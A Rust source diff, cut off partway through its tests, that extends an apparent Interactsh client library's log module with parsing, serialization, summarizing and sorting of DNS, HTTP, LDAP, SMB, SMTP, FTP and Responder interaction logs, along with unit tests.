@@ -1,8 +1,18 @@
+use std::cmp::Ordering;
+use std::collections::{BTreeMap, BTreeSet, HashMap};
+use std::convert::Infallible;
 use std::fmt::Display;
+use std::io;
+use std::net::IpAddr;
+use std::str::FromStr;
 
-use serde::Deserialize;
+use serde::ser::SerializeMap;
+use serde::{de, Deserialize, Deserializer, Serialize, Serializer};
 use time::OffsetDateTime;
+use zeroize::Zeroizing;
 
+/// The protocol tags of the logs with a dedicated [ParsedLogEntry] variant
+const KNOWN_PROTOCOL_TAGS: &[&str] = &["dns", "ftp", "http", "ldap", "responder", "smb", "smtp"];
 
 /// Type returned when a [RegisteredClient](crate::client::RegisteredClient)
 /// polls a server and obtains new interaction logs
@@ -10,10 +20,10 @@ use time::OffsetDateTime;
 /// Whether or not a raw log or a parsed log is
 /// returned depends on the following:
 /// 1. If the client was built with the "parse logs" option set to true
-/// (see [ClientBuilder](crate::client::ClientBuilder))
+///    (see [ClientBuilder](crate::client::ClientBuilder))
 /// 2. If the logs are able to be parsed (if the logs are unable to be parsed, then the raw
-/// logs are returned)
-#[derive(Debug)]
+///    logs are returned)
+#[derive(Debug, Clone)]
 pub enum LogEntry {
     ParsedLog(ParsedLogEntry),
     RawLog(RawLog),
@@ -22,8 +32,19 @@ pub enum LogEntry {
 impl LogEntry {
     #[allow(dead_code)]
     pub(crate) fn return_raw_log(raw_log_str: &str) -> LogEntry {
+        Self::RawLog(RawLog::new(raw_log_str.to_owned()))
+    }
+
+    /// Creates a raw log from decrypted bytes that are not valid UTF-8,
+    /// keeping the original bytes alongside the lossy log string
+    #[cfg(all(
+        any(feature = "rustls-tls", feature = "native-tls"),
+        any(feature = "rustcrypto", feature = "openssl")
+    ))]
+    pub(crate) fn return_raw_bytes_log(raw_log_bytes: &[u8]) -> LogEntry {
         let raw_log = RawLog {
-            log_entry: raw_log_str.to_owned(),
+            log_entry: String::from_utf8_lossy(raw_log_bytes).into_owned(),
+            invalid_utf8_bytes: Some(Zeroizing::new(raw_log_bytes.to_vec())),
         };
 
         Self::RawLog(raw_log)
@@ -36,16 +57,267 @@ impl LogEntry {
             Err(_) => Self::return_raw_log(raw_log_str),
         }
     }
+
+    /// Checks whether this log and the other log represent the same
+    /// interaction on the server, even if they were returned by
+    /// different polls.
+    ///
+    /// Parsed logs are compared by protocol, unique ID (when the protocol
+    /// has one), and raw request, ignoring fields that vary per poll such
+    /// as the timestamp. Raw logs are compared by their raw log bytes. A
+    /// parsed log and a raw log are never the same interaction.
+    pub fn same_interaction(&self, other: &LogEntry) -> bool {
+        match (self, other) {
+            (LogEntry::ParsedLog(log), LogEntry::ParsedLog(other_log)) => {
+                log.log_protocol() == other_log.log_protocol()
+                    && log.unique_id() == other_log.unique_id()
+                    && log.raw_request() == other_log.raw_request()
+            }
+            (LogEntry::RawLog(log), LogEntry::RawLog(other_log)) => {
+                log.as_bytes() == other_log.as_bytes()
+            }
+            _ => false,
+        }
+    }
+}
+
+/// Parses a decoded and decrypted log string the same way a
+/// [RegisteredClient](crate::client::RegisteredClient) does when polling.
+///
+/// If `parse_logs` is false, or if the log can't be parsed, the log is
+/// returned as a [RawLog]. This can be used to parse logs obtained outside
+/// of a client session, such as from a server-side export.
+pub fn parse_log_entry(log: &str, parse_logs: bool) -> LogEntry {
+    if parse_logs {
+        LogEntry::try_parse_log(log)
+    } else {
+        LogEntry::return_raw_log(log)
+    }
+}
+
+/// Groups the provided logs by protocol, keeping the order of the logs
+/// within each group.
+///
+/// Raw logs are grouped under `LogProtocol::Other("raw")`.
+#[allow(dead_code)]
+pub(crate) fn group_by_protocol(logs: Vec<LogEntry>) -> HashMap<LogProtocol, Vec<LogEntry>> {
+    let mut grouped_logs: HashMap<LogProtocol, Vec<LogEntry>> = HashMap::new();
+
+    for log_entry in logs.into_iter() {
+        let protocol = match &log_entry {
+            LogEntry::ParsedLog(parsed_log) => parsed_log.log_protocol(),
+            LogEntry::RawLog(_) => LogProtocol::Other("raw".into()),
+        };
+
+        grouped_logs.entry(protocol).or_default().push(log_entry);
+    }
+
+    grouped_logs
 }
 
+/// Groups the provided parsed logs by timestamp, ordered from oldest to newest
+/// and keeping the order of the logs within each group.
+///
+/// Raw logs do not have a timestamp and are excluded.
+#[allow(dead_code)]
+pub(crate) fn group_by_timestamp(logs: Vec<LogEntry>) -> BTreeMap<OffsetDateTime, Vec<LogEntry>> {
+    let mut timeline: BTreeMap<OffsetDateTime, Vec<LogEntry>> = BTreeMap::new();
+
+    for log_entry in logs.into_iter() {
+        let timestamp = match &log_entry {
+            LogEntry::ParsedLog(parsed_log) => parsed_log.timestamp(),
+            LogEntry::RawLog(_) => continue,
+        };
+
+        timeline.entry(timestamp).or_default().push(log_entry);
+    }
+
+    timeline
+}
+
+/// Sorts the provided logs by timestamp, from oldest to newest.
+///
+/// The sort is stable, so logs with the same timestamp keep their order.
+/// Raw logs do not have a timestamp and are moved to the end, also keeping
+/// their order.
+pub fn sort_by_timestamp(logs: &mut [LogEntry]) {
+    logs.sort_by(|log_entry, other_log_entry| match (log_entry, other_log_entry) {
+        (LogEntry::ParsedLog(parsed_log), LogEntry::ParsedLog(other_parsed_log)) => {
+            parsed_log.timestamp().cmp(&other_parsed_log.timestamp())
+        }
+        (LogEntry::ParsedLog(_), LogEntry::RawLog(_)) => Ordering::Less,
+        (LogEntry::RawLog(_), LogEntry::ParsedLog(_)) => Ordering::Greater,
+        (LogEntry::RawLog(_), LogEntry::RawLog(_)) => Ordering::Equal,
+    });
+}
+
+/// Serializes the logs as newline-delimited JSON, with one log per line.
+///
+/// See [write_ndjson] for the format of each line.
+pub fn to_ndjson(logs: &[LogEntry]) -> String {
+    let mut ndjson = Vec::new();
+    write_ndjson(&mut ndjson, logs).expect("Log entries always serialize to a Vec");
+
+    String::from_utf8(ndjson).expect("JSON output is always valid UTF-8")
+}
+
+/// Writes the logs to the writer as newline-delimited JSON, with one log
+/// per line.
+///
+/// Parsed logs are serialized the same way as with serde, and raw logs are
+/// serialized as `{"raw": "<log_entry>"}`. Each line ends with a newline,
+/// including the last one.
+pub fn write_ndjson<W: io::Write>(mut writer: W, logs: &[LogEntry]) -> serde_json::Result<()> {
+    for log_entry in logs.iter() {
+        match log_entry {
+            LogEntry::ParsedLog(parsed_log) => serde_json::to_writer(&mut writer, parsed_log)?,
+            LogEntry::RawLog(raw_log) => {
+                let raw_line = serde_json::json!({ "raw": raw_log.log_entry });
+                serde_json::to_writer(&mut writer, &raw_line)?;
+            }
+        }
+
+        writer.write_all(b"\n").map_err(serde_json::Error::io)?;
+    }
+
+    Ok(())
+}
+
+/// Summarizes the provided logs, counting the logs of each protocol and
+/// collecting their time range and remote addresses.
+///
+/// Raw logs are counted, but have no timestamp or remote address.
+pub fn summarize(logs: &[LogEntry]) -> LogSummary {
+    let mut summary = LogSummary::default();
+
+    for log_entry in logs.iter() {
+        let parsed_log = match log_entry {
+            LogEntry::ParsedLog(parsed_log) => parsed_log,
+            LogEntry::RawLog(_) => {
+                summary.raw += 1;
+                continue;
+            }
+        };
+
+        let protocol_count = match parsed_log.log_protocol() {
+            LogProtocol::Dns => &mut summary.dns,
+            LogProtocol::Http => &mut summary.http,
+            LogProtocol::Ftp => &mut summary.ftp,
+            LogProtocol::Smtp => &mut summary.smtp,
+            LogProtocol::Smb => &mut summary.smb,
+            LogProtocol::Ldap => &mut summary.ldap,
+            LogProtocol::Responder => &mut summary.responder,
+            LogProtocol::Other(_) => &mut summary.other,
+        };
+        *protocol_count += 1;
+
+        let timestamp = parsed_log.timestamp();
+        summary.earliest = Some(match summary.earliest {
+            Some(earliest) => earliest.min(timestamp),
+            None => timestamp,
+        });
+        summary.latest = Some(match summary.latest {
+            Some(latest) => latest.max(timestamp),
+            None => timestamp,
+        });
+
+        if let Some(remote_address) = parsed_log.remote_address() {
+            summary.remote_addresses.insert(remote_address);
+        }
+    }
+
+    summary
+}
+
+
+/// Summary statistics over a batch of logs
+///
+/// See [summarize()].
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct LogSummary {
+    /// The number of DNS logs
+    pub dns: usize,
+    /// The number of HTTP logs
+    pub http: usize,
+    /// The number of FTP logs
+    pub ftp: usize,
+    /// The number of SMTP logs
+    pub smtp: usize,
+    /// The number of SMB logs
+    pub smb: usize,
+    /// The number of LDAP logs
+    pub ldap: usize,
+    /// The number of Responder logs
+    pub responder: usize,
+    /// The number of parsed logs of any other protocol
+    pub other: usize,
+    /// The number of raw logs
+    pub raw: usize,
+    /// The timestamp of the oldest parsed log, if any
+    pub earliest: Option<OffsetDateTime>,
+    /// The timestamp of the newest parsed log, if any
+    pub latest: Option<OffsetDateTime>,
+    /// The distinct addresses of the remote hosts that triggered the logs
+    pub remote_addresses: BTreeSet<IpAddr>,
+}
+
+impl LogSummary {
+    /// Gets the total number of logs summarized
+    pub fn total(&self) -> usize {
+        self.dns
+            + self.http
+            + self.ftp
+            + self.smtp
+            + self.smb
+            + self.ldap
+            + self.responder
+            + self.other
+            + self.raw
+    }
+}
+
+
 /// Wrapper type containing the raw log string received by the client from the
 /// Interactsh server (after decoding and decrypting)
-#[derive(Debug)]
+///
+/// If the decrypted log was not valid UTF-8, invalid sequences in `log_entry`
+/// are replaced with `U+FFFD`, and the original bytes are kept and available
+/// from [as_bytes()](RawLog::as_bytes()). The original bytes are zeroized when
+/// the log is dropped.
+#[derive(Debug, Clone)]
 pub struct RawLog {
     pub log_entry: String,
+    invalid_utf8_bytes: Option<Zeroizing<Vec<u8>>>,
+}
+
+impl RawLog {
+    /// Creates a raw log from a log string
+    pub fn new(log_entry: String) -> Self {
+        Self {
+            log_entry,
+            invalid_utf8_bytes: None,
+        }
+    }
+
+    /// Gets the raw log exactly as it was decrypted
+    pub fn as_bytes(&self) -> &[u8] {
+        match &self.invalid_utf8_bytes {
+            Some(raw_bytes) => raw_bytes,
+            None => self.log_entry.as_bytes(),
+        }
+    }
+
+    /// Checks whether the decrypted log was not valid UTF-8, in which case
+    /// `log_entry` is a lossy conversion of the original bytes
+    pub fn is_lossy(&self) -> bool {
+        self.invalid_utf8_bytes.is_some()
+    }
 }
 
-#[derive(Debug, Deserialize)]
+/// The record type of a DNS query
+///
+/// Record types not known to this crate are kept as [DnsQType::Unknown].
+#[derive(Debug, Clone, PartialEq, Eq, Hash)]
 pub enum DnsQType {
     A,
     NS,
@@ -55,6 +327,13 @@ pub enum DnsQType {
     MX,
     TXT,
     AAAA,
+    SRV,
+    NAPTR,
+    SVCB,
+    HTTPS,
+    CAA,
+    /// A record type not known to this crate
+    Unknown(String),
 }
 
 impl Display for DnsQType {
@@ -68,18 +347,140 @@ impl Display for DnsQType {
             DnsQType::MX => write!(f, "MX"),
             DnsQType::TXT => write!(f, "TXT"),
             DnsQType::AAAA => write!(f, "AAAA"),
+            DnsQType::SRV => write!(f, "SRV"),
+            DnsQType::NAPTR => write!(f, "NAPTR"),
+            DnsQType::SVCB => write!(f, "SVCB"),
+            DnsQType::HTTPS => write!(f, "HTTPS"),
+            DnsQType::CAA => write!(f, "CAA"),
+            DnsQType::Unknown(q_type) => write!(f, "{}", q_type),
+        }
+    }
+}
+
+impl FromStr for DnsQType {
+    type Err = Infallible;
+
+    /// Parses a record type name (case insensitive). Unknown record types
+    /// are returned as [DnsQType::Unknown].
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        let q_type = match s.to_ascii_uppercase().as_str() {
+            "A" => DnsQType::A,
+            "NS" => DnsQType::NS,
+            "CNAME" => DnsQType::CNAME,
+            "SOA" => DnsQType::SOA,
+            "PTR" => DnsQType::PTR,
+            "MX" => DnsQType::MX,
+            "TXT" => DnsQType::TXT,
+            "AAAA" => DnsQType::AAAA,
+            "SRV" => DnsQType::SRV,
+            "NAPTR" => DnsQType::NAPTR,
+            "SVCB" => DnsQType::SVCB,
+            "HTTPS" => DnsQType::HTTPS,
+            "CAA" => DnsQType::CAA,
+            _ => DnsQType::Unknown(s.to_owned()),
+        };
+
+        Ok(q_type)
+    }
+}
+
+impl<'de> Deserialize<'de> for DnsQType {
+    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
+        let q_type = String::deserialize(deserializer)?;
+
+        q_type.parse().map_err(de::Error::custom)
+    }
+}
+
+impl Serialize for DnsQType {
+    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
+        serializer.collect_str(self)
+    }
+}
+
+/// The protocol of an interaction log
+///
+/// The string form of each protocol (see [as_tag()](LogProtocol::as_tag()))
+/// matches the protocol tag used by the Interactsh server and [ParsedLogEntry].
+#[derive(Debug, Clone, PartialEq, Eq, Hash)]
+pub enum LogProtocol {
+    Dns,
+    Http,
+    Ftp,
+    Smtp,
+    Ldap,
+    Smb,
+    Responder,
+    /// A protocol not known to this crate
+    Other(String),
+}
+
+impl LogProtocol {
+    /// Gets the protocol tag used by the Interactsh server and [ParsedLogEntry]
+    pub fn as_tag(&self) -> &str {
+        match self {
+            LogProtocol::Dns => "dns",
+            LogProtocol::Http => "http",
+            LogProtocol::Ftp => "ftp",
+            LogProtocol::Smtp => "smtp",
+            LogProtocol::Ldap => "ldap",
+            LogProtocol::Smb => "smb",
+            LogProtocol::Responder => "responder",
+            LogProtocol::Other(tag) => tag.as_str(),
         }
     }
 }
 
+impl Display for LogProtocol {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(f, "{}", self.as_tag())
+    }
+}
+
+impl FromStr for LogProtocol {
+    type Err = Infallible;
+
+    /// Parses a protocol tag (case insensitive). Unknown tags are returned
+    /// as [LogProtocol::Other].
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        let protocol = match s.to_ascii_lowercase().as_str() {
+            "dns" => LogProtocol::Dns,
+            "http" => LogProtocol::Http,
+            "ftp" => LogProtocol::Ftp,
+            "smtp" => LogProtocol::Smtp,
+            "ldap" => LogProtocol::Ldap,
+            "smb" => LogProtocol::Smb,
+            "responder" => LogProtocol::Responder,
+            _ => LogProtocol::Other(s.to_owned()),
+        };
+
+        Ok(protocol)
+    }
+}
+
 /// A fully parsed log entry returned by an Interactsh server
-#[derive(Debug, Deserialize)]
-#[serde(tag = "protocol")]
+///
+/// Serializing a parsed log entry produces the same JSON shape that the
+/// Interactsh server returns.
+///
+/// Logs of protocols that this crate doesn't know yet are returned as
+/// [ParsedLogEntry::Other], so the protocol and the decoded JSON fields are
+/// still available.
+// The derives generate inherent (de)serialize functions for the known
+// protocols, which are wrapped by the manual trait impls below to handle
+// unknown protocols.
+#[derive(Debug, Clone, Deserialize, Serialize)]
+#[serde(remote = "Self", tag = "protocol")]
 pub enum ParsedLogEntry {
-    #[serde(alias = "dns", rename_all(deserialize = "kebab-case"))]
+    #[serde(
+        alias = "dns",
+        rename(serialize = "dns"),
+        rename_all = "kebab-case"
+    )]
     Dns {
         unique_id: String,
         full_id: String,
+        #[serde(skip_serializing_if = "Option::is_none")]
         q_type: Option<DnsQType>,
         raw_request: String,
         raw_response: String,
@@ -88,7 +489,11 @@ pub enum ParsedLogEntry {
         timestamp: OffsetDateTime,
     },
 
-    #[serde(alias = "ftp", rename_all(deserialize = "kebab-case"))]
+    #[serde(
+        alias = "ftp",
+        rename(serialize = "ftp"),
+        rename_all = "kebab-case"
+    )]
     Ftp {
         remote_address: std::net::IpAddr,
         raw_request: String,
@@ -96,7 +501,11 @@ pub enum ParsedLogEntry {
         timestamp: OffsetDateTime,
     },
 
-    #[serde(alias = "http", rename_all(deserialize = "kebab-case"))]
+    #[serde(
+        alias = "http",
+        rename(serialize = "http"),
+        rename_all = "kebab-case"
+    )]
     Http {
         unique_id: String,
         full_id: String,
@@ -107,7 +516,11 @@ pub enum ParsedLogEntry {
         timestamp: OffsetDateTime,
     },
 
-    #[serde(alias = "ldap", rename_all(deserialize = "kebab-case"))]
+    #[serde(
+        alias = "ldap",
+        rename(serialize = "ldap"),
+        rename_all = "kebab-case"
+    )]
     Ldap {
         unique_id: String,
         full_id: String,
@@ -118,14 +531,34 @@ pub enum ParsedLogEntry {
         timestamp: OffsetDateTime,
     },
 
-    #[serde(alias = "smb", rename_all(deserialize = "kebab-case"))]
+    #[serde(
+        alias = "responder",
+        rename(serialize = "responder"),
+        rename_all = "kebab-case"
+    )]
+    Responder {
+        raw_request: String,
+        remote_address: std::net::IpAddr,
+        #[serde(with = "timestamp_unixstr_parse")]
+        timestamp: OffsetDateTime,
+    },
+
+    #[serde(
+        alias = "smb",
+        rename(serialize = "smb"),
+        rename_all = "kebab-case"
+    )]
     Smb {
         raw_request: String,
         #[serde(with = "timestamp_unixstr_parse")]
         timestamp: OffsetDateTime,
     },
 
-    #[serde(alias = "smtp", rename_all(deserialize = "kebab-case"))]
+    #[serde(
+        alias = "smtp",
+        rename(serialize = "smtp"),
+        rename_all = "kebab-case"
+    )]
     Smtp {
         unique_id: String,
         full_id: String,
@@ -135,19 +568,311 @@ pub enum ParsedLogEntry {
         #[serde(with = "timestamp_unixstr_parse")]
         timestamp: OffsetDateTime,
     },
+
+    /// A log of a protocol not known to this crate
+    #[serde(skip)]
+    Other {
+        /// The protocol tag of the log
+        protocol: String,
+        /// The other fields of the log, as returned by the server
+        fields: serde_json::Value,
+    },
 }
 
+impl<'de> Deserialize<'de> for ParsedLogEntry {
+    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
+        let mut fields = serde_json::Value::deserialize(deserializer)?;
+
+        let protocol = fields
+            .get("protocol")
+            .and_then(serde_json::Value::as_str)
+            .ok_or_else(|| de::Error::missing_field("protocol"))?
+            .to_owned();
+
+        let is_known_protocol = KNOWN_PROTOCOL_TAGS
+            .iter()
+            .any(|tag| tag.eq_ignore_ascii_case(&protocol));
+        if is_known_protocol {
+            return ParsedLogEntry::deserialize(fields).map_err(de::Error::custom);
+        }
+
+        if let Some(fields) = fields.as_object_mut() {
+            fields.remove("protocol");
+        }
+
+        Ok(ParsedLogEntry::Other { protocol, fields })
+    }
+}
+
+impl Serialize for ParsedLogEntry {
+    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
+        let (protocol, fields) = match self {
+            ParsedLogEntry::Other { protocol, fields } => (protocol, fields),
+            _ => return ParsedLogEntry::serialize(self, serializer),
+        };
+
+        let mut map = serializer.serialize_map(None)?;
+        map.serialize_entry("protocol", protocol)?;
+        if let Some(fields) = fields.as_object() {
+            for (field_name, field_value) in fields {
+                map.serialize_entry(field_name, field_value)?;
+            }
+        }
+
+        map.end()
+    }
+}
+
+impl ParsedLogEntry {
+    /// Gets the protocol of this log entry
+    pub fn log_protocol(&self) -> LogProtocol {
+        match self {
+            ParsedLogEntry::Dns { .. } => LogProtocol::Dns,
+            ParsedLogEntry::Ftp { .. } => LogProtocol::Ftp,
+            ParsedLogEntry::Http { .. } => LogProtocol::Http,
+            ParsedLogEntry::Ldap { .. } => LogProtocol::Ldap,
+            ParsedLogEntry::Responder { .. } => LogProtocol::Responder,
+            ParsedLogEntry::Smb { .. } => LogProtocol::Smb,
+            ParsedLogEntry::Smtp { .. } => LogProtocol::Smtp,
+            ParsedLogEntry::Other { protocol, .. } => LogProtocol::Other(protocol.clone()),
+        }
+    }
+
+    /// Gets the protocol tag of this log entry, as used by the Interactsh
+    /// server (ex. "dns" or "http")
+    pub fn protocol(&self) -> &str {
+        match self {
+            ParsedLogEntry::Dns { .. } => "dns",
+            ParsedLogEntry::Ftp { .. } => "ftp",
+            ParsedLogEntry::Http { .. } => "http",
+            ParsedLogEntry::Ldap { .. } => "ldap",
+            ParsedLogEntry::Responder { .. } => "responder",
+            ParsedLogEntry::Smb { .. } => "smb",
+            ParsedLogEntry::Smtp { .. } => "smtp",
+            ParsedLogEntry::Other { protocol, .. } => protocol.as_str(),
+        }
+    }
+
+    /// Gets the timestamp of this log entry.
+    ///
+    /// For logs of an unknown protocol, this is parsed from the `timestamp`
+    /// field, falling back to the Unix epoch if it is missing or invalid.
+    pub fn timestamp(&self) -> OffsetDateTime {
+        match self {
+            ParsedLogEntry::Dns { timestamp, .. }
+            | ParsedLogEntry::Ftp { timestamp, .. }
+            | ParsedLogEntry::Http { timestamp, .. }
+            | ParsedLogEntry::Ldap { timestamp, .. }
+            | ParsedLogEntry::Responder { timestamp, .. }
+            | ParsedLogEntry::Smb { timestamp, .. }
+            | ParsedLogEntry::Smtp { timestamp, .. } => *timestamp,
+            ParsedLogEntry::Other { fields, .. } => other_field(fields, "timestamp")
+                .and_then(|timestamp| timestamp_unixstr_parse::parse_timestamp(timestamp).ok())
+                .unwrap_or(OffsetDateTime::UNIX_EPOCH),
+        }
+    }
+
+    /// Gets the unique ID of this log entry.
+    ///
+    /// Returns `None` for protocols that do not include a unique ID
+    /// (FTP, Responder, and SMB).
+    pub fn unique_id(&self) -> Option<&str> {
+        match self {
+            ParsedLogEntry::Dns { unique_id, .. }
+            | ParsedLogEntry::Http { unique_id, .. }
+            | ParsedLogEntry::Ldap { unique_id, .. }
+            | ParsedLogEntry::Smtp { unique_id, .. } => Some(unique_id.as_str()),
+            ParsedLogEntry::Other { fields, .. } => other_field(fields, "unique-id"),
+            ParsedLogEntry::Ftp { .. }
+            | ParsedLogEntry::Responder { .. }
+            | ParsedLogEntry::Smb { .. } => None,
+        }
+    }
+
+    /// Gets the full ID (the interaction subdomain) of this log entry.
+    ///
+    /// Returns `None` for protocols that do not include a full ID
+    /// (FTP, Responder, and SMB).
+    pub fn full_id(&self) -> Option<&str> {
+        match self {
+            ParsedLogEntry::Dns { full_id, .. }
+            | ParsedLogEntry::Http { full_id, .. }
+            | ParsedLogEntry::Ldap { full_id, .. }
+            | ParsedLogEntry::Smtp { full_id, .. } => Some(full_id.as_str()),
+            ParsedLogEntry::Other { fields, .. } => other_field(fields, "full-id"),
+            ParsedLogEntry::Ftp { .. }
+            | ParsedLogEntry::Responder { .. }
+            | ParsedLogEntry::Smb { .. } => None,
+        }
+    }
+
+    /// Gets the payload label of this log entry, which is the label right
+    /// before the client's subdomain in the [full ID](ParsedLogEntry::full_id()).
+    ///
+    /// This maps a log back to the payload generated with
+    /// [new_payload_label](crate::client::RegisteredClient::new_payload_label())
+    /// or [build_dns_payload](crate::client::RegisteredClient::build_dns_payload()).
+    /// The label is returned in lowercase. Returns `None` if the log has no
+    /// full ID, or if the full ID has no label before the subdomain.
+    pub fn extract_label(&self, registered_subdomain: &str) -> Option<String> {
+        let full_id = self.full_id()?.to_ascii_lowercase();
+        let registered_subdomain = registered_subdomain.to_ascii_lowercase();
+
+        let labels: Vec<&str> = full_id.split('.').collect();
+        let subdomain_index = labels
+            .iter()
+            .position(|label| *label == registered_subdomain)?;
+
+        subdomain_index
+            .checked_sub(1)
+            .map(|label_index| labels[label_index].to_owned())
+    }
+
+    /// Gets the address of the remote host that triggered this log entry.
+    ///
+    /// Returns `None` for protocols that do not include a remote
+    /// address (SMB).
+    pub fn remote_address(&self) -> Option<IpAddr> {
+        match self {
+            ParsedLogEntry::Dns { remote_address, .. }
+            | ParsedLogEntry::Ftp { remote_address, .. }
+            | ParsedLogEntry::Http { remote_address, .. }
+            | ParsedLogEntry::Ldap { remote_address, .. }
+            | ParsedLogEntry::Responder { remote_address, .. }
+            | ParsedLogEntry::Smtp { remote_address, .. } => Some(*remote_address),
+            ParsedLogEntry::Other { fields, .. } => {
+                other_field(fields, "remote-address").and_then(|address| address.parse().ok())
+            }
+            ParsedLogEntry::Smb { .. } => None,
+        }
+    }
+
+    /// Gets the raw request of this log entry.
+    ///
+    /// For logs of an unknown protocol, this is empty if there is no
+    /// `raw-request` field.
+    pub fn raw_request(&self) -> &str {
+        match self {
+            ParsedLogEntry::Dns { raw_request, .. }
+            | ParsedLogEntry::Ftp { raw_request, .. }
+            | ParsedLogEntry::Http { raw_request, .. }
+            | ParsedLogEntry::Ldap { raw_request, .. }
+            | ParsedLogEntry::Responder { raw_request, .. }
+            | ParsedLogEntry::Smb { raw_request, .. }
+            | ParsedLogEntry::Smtp { raw_request, .. } => raw_request.as_str(),
+            ParsedLogEntry::Other { fields, .. } => {
+                other_field(fields, "raw-request").unwrap_or_default()
+            }
+        }
+    }
+
+    /// Parses the bind DN, operation type, base DN, and search filter
+    /// from the raw request of an LDAP log entry.
+    ///
+    /// Returns `None` if this is not an LDAP log entry. Fields that are
+    /// missing or malformed in the raw request are left as `None`.
+    pub fn ldap_request(&self) -> Option<LdapRequest> {
+        match self {
+            ParsedLogEntry::Ldap { raw_request, .. } => Some(LdapRequest::parse(raw_request)),
+            _ => None,
+        }
+    }
+}
+
+/// Gets a string field of a log of an unknown protocol
+fn other_field<'a>(fields: &'a serde_json::Value, field_name: &str) -> Option<&'a str> {
+    fields.get(field_name).and_then(serde_json::Value::as_str)
+}
+
+
+/// The structured fields of an LDAP request logged by an Interactsh server
+///
+/// See [ldap_request()](ParsedLogEntry::ldap_request()).
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct LdapRequest {
+    /// The LDAP operation type (ex. "Bind" or "Search")
+    pub operation: Option<String>,
+    /// The DN the client attempted to bind as
+    pub bind_dn: Option<String>,
+    /// The base DN of a search request
+    pub base_dn: Option<String>,
+    /// The filter of a search request
+    pub filter: Option<String>,
+}
+
+impl LdapRequest {
+    /// Parses the `Key=Value` lines of an LDAP raw request, skipping any
+    /// malformed lines
+    fn parse(raw_request: &str) -> Self {
+        let mut ldap_request = LdapRequest::default();
+
+        for line in raw_request.lines() {
+            let (key, value) = match line.split_once('=') {
+                Some((key, value)) if !value.trim().is_empty() => (key.trim(), value.trim()),
+                _ => continue,
+            };
+
+            let field = match key.to_ascii_lowercase().as_str() {
+                "type" => &mut ldap_request.operation,
+                "name" => &mut ldap_request.bind_dn,
+                "basedn" => &mut ldap_request.base_dn,
+                "filter" => &mut ldap_request.filter,
+                _ => continue,
+            };
+
+            if field.is_none() {
+                *field = Some(value.to_owned());
+            }
+        }
+
+        ldap_request
+    }
+}
+
+
+mod filter;
+pub use filter::{FilteredLogs, LogEntryFilterExt};
+
+#[cfg(feature = "heuristics")]
+mod heuristics;
+
+#[cfg(feature = "http-parse")]
+mod http_parse;
+#[cfg(feature = "http-parse")]
+pub use http_parse::HttpRequestParts;
+
 
 mod timestamp_unixstr_parse {
-    use serde::{de, Deserialize, Deserializer};
-    use time::format_description::well_known::Rfc3339;
+    use serde::{de, ser, Deserialize, Deserializer, Serializer};
+    use time::format_description::well_known::{Iso8601, Rfc3339};
     use time::OffsetDateTime;
 
     pub fn deserialize<'a, D: Deserializer<'a>>(
         deserializer: D,
     ) -> Result<OffsetDateTime, D::Error> {
-        OffsetDateTime::parse(<_>::deserialize(deserializer)?, &Rfc3339)
-            .map_err(|e| de::Error::custom(format!("{}", e)))
+        let timestamp = String::deserialize(deserializer)?;
+
+        parse_timestamp(&timestamp).map_err(|e| de::Error::custom(format!("{}", e)))
+    }
+
+    /// Parses a timestamp sent by the server as RFC 3339 (the format used by
+    /// the reference server), falling back to ISO 8601 for servers that use
+    /// a different profile of it. The RFC 3339 error is returned if both fail.
+    pub(super) fn parse_timestamp(timestamp: &str) -> Result<OffsetDateTime, time::error::Parse> {
+        OffsetDateTime::parse(timestamp, &Rfc3339).or_else(|rfc3339_error| {
+            OffsetDateTime::parse(timestamp, &Iso8601::DEFAULT).map_err(|_| rfc3339_error)
+        })
+    }
+
+    pub fn serialize<S: Serializer>(
+        timestamp: &OffsetDateTime,
+        serializer: S,
+    ) -> Result<S::Ok, S::Error> {
+        let timestamp = timestamp
+            .format(&Rfc3339)
+            .map_err(|e| ser::Error::custom(format!("{}", e)))?;
+
+        serializer.serialize_str(&timestamp)
     }
 }
 
@@ -163,11 +888,9 @@ mod tests {
     use super::*;
 
     fn get_random_id() -> String {
-        let random_id = Alphanumeric
+        Alphanumeric
             .sample_string(&mut thread_rng(), 33)
-            .to_ascii_lowercase();
-
-        random_id
+            .to_ascii_lowercase()
     }
 
     fn get_timestamp() -> String {
@@ -206,6 +929,14 @@ mod tests {
         LogEntry::return_raw_log(&json_value_string)
     }
 
+    #[test]
+    fn raw_log_created_from_a_string_is_not_lossy() {
+        let raw_log = RawLog::new("raw log".to_owned());
+
+        assert!(!raw_log.is_lossy());
+        assert_eq!(raw_log.as_bytes(), b"raw log");
+    }
+
     #[test]
     fn log_entry_successfully_parses_valid_dns_log_no_qtype() {
         let random_id = get_random_id();
@@ -270,6 +1001,85 @@ mod tests {
         }
     }
 
+    #[test]
+    fn timestamps_in_server_formats_parse() {
+        // 2023-07-13T09:13:28Z
+        let unix_timestamp = 1_689_239_608;
+        let expected_timestamp =
+            OffsetDateTime::from_unix_timestamp_nanos(unix_timestamp * 1_000_000_000 + 561_713_425)
+                .unwrap();
+
+        // The reference server emits RFC 3339 timestamps with nanoseconds
+        let rfc3339_timestamps = [
+            "2023-07-13T14:43:28.561713425+05:30",
+            "2023-07-13T09:13:28.561713425Z",
+        ];
+        for timestamp in rfc3339_timestamps {
+            let parsed_timestamp = timestamp_unixstr_parse::parse_timestamp(timestamp)
+                .expect("Failed to parse an RFC 3339 timestamp");
+
+            assert_eq!(parsed_timestamp, expected_timestamp);
+        }
+
+        // ISO 8601 timestamps that aren't valid RFC 3339 use the fallback
+        let iso8601_timestamp = timestamp_unixstr_parse::parse_timestamp("20230713T091328Z")
+            .expect("Failed to parse an ISO 8601 timestamp");
+        assert_eq!(iso8601_timestamp.unix_timestamp(), unix_timestamp as i64);
+
+        assert!(timestamp_unixstr_parse::parse_timestamp("not a timestamp").is_err());
+    }
+
+    #[test]
+    fn dns_q_type_round_trips_through_display_and_from_str() {
+        let q_types = [
+            DnsQType::A,
+            DnsQType::AAAA,
+            DnsQType::SRV,
+            DnsQType::NAPTR,
+            DnsQType::SVCB,
